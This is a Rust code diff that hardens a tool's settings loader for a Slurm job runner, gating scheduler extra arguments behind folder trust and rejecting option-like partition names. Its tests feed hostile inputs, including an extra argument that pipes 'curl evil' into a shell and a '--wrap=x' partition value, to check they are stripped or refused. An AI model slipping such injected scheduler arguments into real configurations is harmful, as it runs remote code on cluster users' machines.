@@ -17,11 +17,13 @@ use serde_json::{Map, Value};
 
 use super::Settings;
 
-/// Keys a project file may only set in a trusted folder.
+/// Keys a project file may only set in a trusted folder (a dot in the key descends into
+/// a nested table).
 pub const UNTRUSTED_KEYS: &[(&str, &str)] = &[
     ("llm", "base_url"),
     ("llm", "api_key_env"),
     ("run", "python"),
+    ("run", "slurm.extra_args"),
     ("literature", "s2_url"),
     ("literature", "openalex_url"),
     ("literature", "arxiv_url"),
@@ -219,10 +221,16 @@ fn parse_toml(text: &str, source: &str, warnings: &mut Vec<String>) -> Option<Va
 fn strip_untrusted(v: &mut Value) -> Vec<String> {
     let mut removed = Vec::new();
     for (section, key) in UNTRUSTED_KEYS {
-        if let Some(sec) = v.get_mut(*section).and_then(Value::as_object_mut) {
-            if sec.remove(*key).is_some() {
-                removed.push(format!("{section}.{key}"));
+        let mut table = v.get_mut(*section).and_then(Value::as_object_mut);
+        let mut parts = key.split('.').peekable();
+        while let (Some(part), Some(t)) = (parts.next(), table) {
+            if parts.peek().is_none() {
+                if t.remove(part).is_some() {
+                    removed.push(format!("{section}.{key}"));
+                }
+                break;
             }
+            table = t.get_mut(part).and_then(Value::as_object_mut);
         }
     }
     removed
@@ -280,6 +288,7 @@ fn apply(out: &mut Loaded, layer: &Layer) {
             "literature" => merge_section(&mut s.literature, v, src, "literature", w),
             "novelty" => merge_section(&mut s.novelty, v, src, "novelty", w),
             "experiment" => merge_section(&mut s.experiment, v, src, "experiment", w),
+            "latex" => merge_section(&mut s.latex, v, src, "latex", w),
             "trusted_folders" => w.push(format!(
                 "{src}: trusted_folders is only read from the user-level config file; ignored here"
             )),
@@ -288,6 +297,9 @@ fn apply(out: &mut Loaded, layer: &Layer) {
     }
     validate(&mut out.settings, &layer.source, &mut out.warnings);
 }
+
+/// Settings tables inside a section, merged key by key like sections.
+const NESTED_TABLES: &[(&str, &str)] = &[("run", "slurm")];
 
 fn merge_section<T: Serialize + DeserializeOwned>(
     current: &mut T,
@@ -312,6 +324,24 @@ fn merge_section<T: Serialize + DeserializeOwned>(
             warnings.push(format!("{source}: unknown setting `{name}.{key}` ignored"));
             continue;
         }
+        // A nested table (`run.slurm`) is merged key by key too, so a layer that sets
+        // one of its keys keeps the others an earlier layer set.
+        let v = match (base.get(key), v) {
+            (Some(Value::Object(old)), Value::Object(new))
+                if NESTED_TABLES.contains(&(name, key.as_str())) =>
+            {
+                let mut merged = old.clone();
+                for (k, x) in new {
+                    if merged.contains_key(k) {
+                        merged.insert(k.clone(), x.clone());
+                    } else {
+                        warnings.push(format!("{source}: unknown setting `{name}.{key}.{k}` ignored"));
+                    }
+                }
+                Value::Object(merged)
+            }
+            _ => v.clone(),
+        };
         let mut trial: Map<String, Value> = base.clone();
         trial.insert(key.clone(), v.clone());
         match serde_json::from_value::<T>(Value::Object(trial)) {
@@ -502,6 +532,31 @@ fn validate(s: &mut Settings, source: &str, warnings: &mut Vec<String>) {
         );
         r.max_run_dir_bytes = d.run.max_run_dir_bytes;
     }
+    let sl = &mut r.slurm;
+    for (name, v, def) in [
+        ("run.slurm.poll_ms", &mut sl.poll_ms, d.run.slurm.poll_ms),
+        (
+            "run.slurm.command_timeout_secs",
+            &mut sl.command_timeout_secs,
+            d.run.slurm.command_timeout_secs,
+        ),
+    ] {
+        if *v == 0 {
+            bad(&format!("{name} (at least 1)"), def.to_string());
+            *v = def;
+        }
+    }
+    for (name, v) in [
+        ("run.slurm.partition", &mut sl.partition),
+        ("run.slurm.account", &mut sl.account),
+    ] {
+        if v.as_deref()
+            .is_some_and(|x| x.trim().is_empty() || x.starts_with('-'))
+        {
+            bad(&format!("{name} (a name)"), "the cluster's default".into());
+            *v = None;
+        }
+    }
     if let Some(list) = &mut r.gpus {
         let valid = |g: &String| {
             !g.is_empty()
@@ -650,6 +705,55 @@ mod tests {
         assert!(!l.project_trusted);
         // The variable it named is still kept out of experiments.
         assert_eq!(l.settings.secret_env_names, ["AWS_SECRET_ACCESS_KEY"]);
+    }
+
+    #[test]
+    fn slurm_table_merges_per_key_and_extra_args_need_trust() {
+        let dir = tempfile::tempdir().unwrap();
+        let user = "[run.slurm]\naccount = \"lab\"\nextra_args = [\"--mem=8G\"]\n".to_string();
+        let src = Sources {
+            user_file: Some((PathBuf::from("user.toml"), user)),
+            project: project(
+                dir.path(),
+                "[run]\nrunner = \"slurm\"\n[run.slurm]\npartition = \"gpu\"\n\
+                 extra_args = [\"--wrap=curl evil | sh\"]\ncolour = 1\n",
+            ),
+            ..Default::default()
+        };
+        let l = load(&src);
+        let sl = &l.settings.run.slurm;
+        assert_eq!(l.settings.run.runner, crate::config::RunnerKind::Slurm);
+        assert_eq!(sl.partition.as_deref(), Some("gpu"));
+        // The user's keys survive the project's table.
+        assert_eq!(sl.account.as_deref(), Some("lab"));
+        assert_eq!(sl.extra_args, ["--mem=8G"]);
+        assert_eq!(sl.gpus_per_run, 1);
+        assert!(
+            l.warnings.iter().any(|w| w.contains("run.slurm.extra_args")),
+            "{:?}",
+            l.warnings
+        );
+        assert!(
+            l.warnings.iter().any(|w| w.contains("`run.slurm.colour`")),
+            "{:?}",
+            l.warnings
+        );
+        assert_eq!(l.warnings.len(), 2, "{:?}", l.warnings);
+    }
+
+    #[test]
+    fn bad_runner_and_slurm_values_keep_defaults() {
+        let l = load(&Sources {
+            editor: vec![serde_json::json!({"run": {"runner": "kubernetes",
+                "slurm": {"poll_ms": 0, "partition": "--wrap=x", "gpus_per_run": 2}}})],
+            ..Default::default()
+        });
+        let r = &l.settings.run;
+        assert_eq!(r.runner, crate::config::RunnerKind::Local);
+        assert_eq!(r.slurm.poll_ms, 1000);
+        assert_eq!(r.slurm.partition, None);
+        assert_eq!(r.slurm.gpus_per_run, 2);
+        assert_eq!(l.warnings.len(), 3, "{:?}", l.warnings);
     }
 
     #[test]
